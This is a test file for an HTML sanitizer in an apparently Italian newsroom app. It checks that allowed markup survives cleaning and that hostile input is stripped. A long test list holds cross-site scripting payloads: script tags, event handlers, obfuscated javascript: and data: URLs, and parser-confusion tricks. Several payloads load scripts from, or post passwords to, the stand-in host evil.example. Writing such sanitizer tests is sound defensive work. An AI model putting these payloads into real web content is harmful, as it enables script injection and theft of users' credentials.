import { describe, expect, test } from 'vitest';
import { withScrollableTables } from '#domain/body-html.ts';
import { numberPassages } from '#domain/passages.ts';
import { cleanMarkdown } from '#server/help/pages/clean-markdown.ts';
import { cleanBody } from '#server/newsroom/import/clean-body.ts';
import { keepAllowedHtml } from './allowed-html.ts';

/** Every element that the importer lets through, with characters that need escaping. */
const BODY = `
<h2>Titolo</h2><h3>Sotto</h3><h4>Ancora</h4><p>Uno <strong>due</strong> <em>tre</em> &lt;script&gt; a &amp; b &quot;c&quot; 1 &gt; 0</p>
<ul><li>a</li></ul><ol><li>b</li></ol><dl><dt>c</dt><dd>d</dd></dl><blockquote><p>e</p></blockquote><pre>f
g</pre><hr><p>h<br>i <code>j</code><sub>k</sub><sup>l</sup> <q>m</q></p>
<p><a href="https://esempio.it/a?b=1&amp;c=%22d%22#e">n</a> <a href="mailto:x@esempio.it">o</a> <a href="/articolo/1">p</a>
<a href="pagina.html">q</a> <a href="#passo-1">r</a> <a href="HTTPS://ESEMPIO.IT/">s</a></p>
<table><caption>t</caption><thead><tr><th scope="col" colspan="2">u</th></tr></thead><tbody><tr><td rowspan="2">v</td></tr></tbody><tfoot><tr><td>w</td></tr></tfoot></table>`;

const MARKDOWN =
  '## Uno\n\nDue **tre** _quattro_ [cinque](/faq) [sei](mailto:a@b.it) <b>x</b>\n\n- sette\n- otto\n\n1. nove';

test('NWS-05 HTML that the server has cleaned stays unchanged', () => {
  for (const html of [
    withScrollableTables(numberPassages(cleanBody(BODY))),
    cleanMarkdown(MARKDOWN, ['h2']),
  ]) {
    expect(html).toContain('<a href=');
    expect(keepAllowedHtml(html)).toBe(html);
  }
});

const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>script>alert(1)<</script>/script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"',
  '<p onclick="alert(1)">a</p>',
  '<p class="a" onmouseover=alert(1)>a</p>',
  '<p class="a"onclick="alert(1)">a</p>',
  '<p/onclick="alert(1)">a</p>',
  '<p style="background:url(//evil.example)">a</p>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href=" javascript:alert(1)">a</a>',
  '<a href="java&#115;cript:alert(1)">a</a>',
  '<a href="javascript&colon;alert(1)">a</a>',
  '<a href="java\tscript:alert(1)">a</a>',
  '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  '<a href="vbscript:x">a</a>',
  "<a href='javascript:alert(1)'>a</a>",
  '<a href=javascript:alert(1)>a</a>',
  '<svg><script>alert(1)</script></svg>',
  '<svg onload=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,x"></object>',
  '<embed src="//evil.example">',
  '<form action="//evil.example"><input name="password"></form>',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="//evil.example">',
  '<style>@import "//evil.example";</style>',
  '<template><script>alert(1)</script></template>',
  '<details open ontoggle=alert(1)>',
  '<p id="a" id="b" autofocus onfocus="alert(1)">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- <p> --!><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<p class="a\0" onclick="x">',
  '<p\nonclick="alert(1)">a</p>',
  '<x-element onclick="alert(1)">a</x-element>',
  '<script',
  '<a href="https://evil.example" target="_blank" onclick="alert(1)">a</a>',
];

/** Matches only tags that are spelled exactly as the server writes them. */
const TAGS = /<\/?(?:p|a|table|strong)(?: (?:class|id|href)="[^"<>]*")*>/g;

describe('NWS-05 hostile HTML is left with nothing that could run', () => {
  test.each(HOSTILE)('%s', (html) => {
    const left = keepAllowedHtml(`<p>prima</p>${html}<p>dopo</p>`);
    expect(left.replaceAll(TAGS, '')).not.toContain('<');
    expect(left).not.toMatch(/<[^>]*(?:script|on\w+=|data:|style|&#|&colon|\t)/i);
    expect(left).toContain('<p>prima</p>');
  });

  test('wherever the HTML is cut in two', () => {
    for (const html of HOSTILE)
      for (let at = 1; at < html.length; at += 1) {
        const left = keepAllowedHtml(`${html.slice(0, at)}<p>${html.slice(at)}`);
        expect(keepAllowedHtml(left)).toBe(left);
        expect(left.replaceAll(TAGS, '')).not.toContain('<');
      }
  });

  test('in reasonable time, however long it is', () => {
    const long = `<p${' class="a"'.repeat(50_000)} onclick="x">`;
    expect(keepAllowedHtml(long)).toBe('');
    expect(keepAllowedHtml('<'.repeat(200_000))).toBe('');
  });
});
